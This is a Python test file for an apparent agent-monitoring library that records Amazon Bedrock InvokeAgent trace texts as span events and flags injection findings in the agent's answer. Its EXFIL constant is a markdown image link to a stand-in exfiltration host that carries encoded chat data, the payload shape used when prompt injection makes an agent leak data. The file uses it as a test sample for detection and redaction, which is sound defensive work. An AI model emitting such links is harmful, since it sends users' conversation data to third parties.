"""InvokeAgent traces: the texts of a trace that no model invocation carries (the agent's final
response, a reprompt to the user, a custom orchestrator's trace events) are recorded on the agent
span, and the ones the user is shown are judged as the agent's answer, once."""

from __future__ import annotations

from typing import Any

import pytest

from tests.bedrock_server import AgentEvents, agent_chunk, agent_trace

MODEL = "anthropic.claude-3-5-sonnet-20240620-v1:0"
EXFIL = ("Please confirm. ![ok](https://t.exfil-cdn.example/p.png?d="
         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")
KEY = "AKIAZ7XQ4PLM2N8RT5VW"


def _observation(**fields: Any) -> tuple[str, dict[str, Any]]:
    return agent_trace(orchestrationTrace={"observation": {"traceId": "t-3", **fields}})


def _invoke(runtime: Any) -> None:
    list(runtime("bedrock-agent-runtime").invoke_agent(
        agentId="AGENT1", agentAliasId="ALIAS1", sessionId="session-1", enableTrace=True,
        inputText="refund order 42")["completion"])


def _events(spans: Any, name: str) -> list[dict[str, Any]]:
    return [dict(event.attributes) for event in spans.one("invoke_agent AGENT1").events
            if event.name == name]


def _injections(findings: list[Any]) -> list[Any]:
    return [f for f in findings if f.category == "injection"]


def test_the_final_response_is_a_span_event_with_its_text_as_content(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """``observation.finalResponse``: an ``agentguard.bedrock.final_response`` event on the agent
    span with the trace id and the text, captured as content (redacted by default)."""
    guarded()
    text = f"Refunded order 42; your key {KEY} is on file."
    bedrock.push(AgentEvents([_observation(type="FINISH", finalResponse={"text": text}),
                              agent_chunk(text)]))
    _invoke(runtime)
    [event] = _events(spans, "agentguard.bedrock.final_response")
    assert event["agentguard.bedrock.trace_id"] == "t-3"
    assert event["message"].startswith("Refunded order 42; your key ")
    assert KEY not in event["message"]


def test_a_reprompt_is_recorded_and_judged_once_as_the_agents_answer(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """``observation.repromptResponse`` (the agent asks the user again): a span event with its
    text and source; the exfiltration link in it is one model-output finding on the agent span,
    not a second one when the same text streams back as the answer."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([
        _observation(type="REPROMPT", repromptResponse={"text": EXFIL, "source": "PARSER"}),
        agent_chunk(EXFIL)]))
    _invoke(runtime)
    [event] = _events(spans, "agentguard.bedrock.reprompt")
    assert event["agentguard.bedrock.trace_id"] == "t-3"
    assert event["agentguard.bedrock.reprompt.source"] == "PARSER"
    assert event["message"].startswith("Please confirm.")
    [finding] = _injections(findings)
    assert finding.evidence["source"]["kind"] == "model_output"
    assert spans.one("invoke_agent AGENT1").attributes["agentguard.finding.count"] == 1


def test_a_reprompt_is_judged_before_the_answer_streams(
        guarded: Any, bedrock: Any, runtime: Any) -> None:
    """The reprompt is judged when its trace event arrives, while the caller is still reading:
    the finding is in before the first piece of the answer is handed out."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([
        _observation(type="REPROMPT", repromptResponse={"text": EXFIL, "source": "ACTION_GROUP"}),
        agent_chunk(EXFIL)]))
    stream = runtime("bedrock-agent-runtime").invoke_agent(
        agentId="AGENT1", agentAliasId="ALIAS1", sessionId="session-1", enableTrace=True,
        inputText="refund order 42")["completion"]
    found_before_chunk: list[int] = []
    for event in stream:
        if "chunk" in event:
            found_before_chunk.append(len(_injections(findings)))
    assert found_before_chunk == [1]


@pytest.mark.parametrize("mode", ["redacted", "hash", "none"])
def test_custom_orchestration_trace_text_is_a_span_event(
        mode: str, guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """``customOrchestrationTrace.event.text``: an ``agentguard.bedrock.custom_orchestration``
    event on the agent span with its trace id, the text captured per capture_content."""
    guarded(capture_content=mode)
    text = f"step 2: calling orders.get_order with key {KEY}"
    bedrock.push(AgentEvents([
        agent_trace(customOrchestrationTrace={"traceId": "c-1", "event": {"text": text}}),
        agent_chunk("Done.")]))
    _invoke(runtime)
    [event] = _events(spans, "agentguard.bedrock.custom_orchestration")
    assert event["agentguard.bedrock.trace_id"] == "c-1"
    message = event.get("message")
    assert KEY not in str(message)
    if mode == "redacted":
        assert message is not None and message.startswith("step 2: calling orders.get_order")
    elif mode == "hash":
        assert message is not None and message.startswith("sha256:")
    else:
        assert message is None


def test_custom_orchestration_trace_text_is_not_judged_as_the_answer(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """A custom orchestrator's trace text is its own log (it may quote what a tool returned),
    not what the user is shown: the link in it is no model-output finding; the answer the
    caller reads is judged as usual."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([
        agent_trace(customOrchestrationTrace={"traceId": "c-1", "event": {"text": EXFIL}}),
        agent_chunk("Refunded order 42.")]))
    _invoke(runtime)
    assert _injections(findings) == []
    assert len(_events(spans, "agentguard.bedrock.custom_orchestration")) == 1
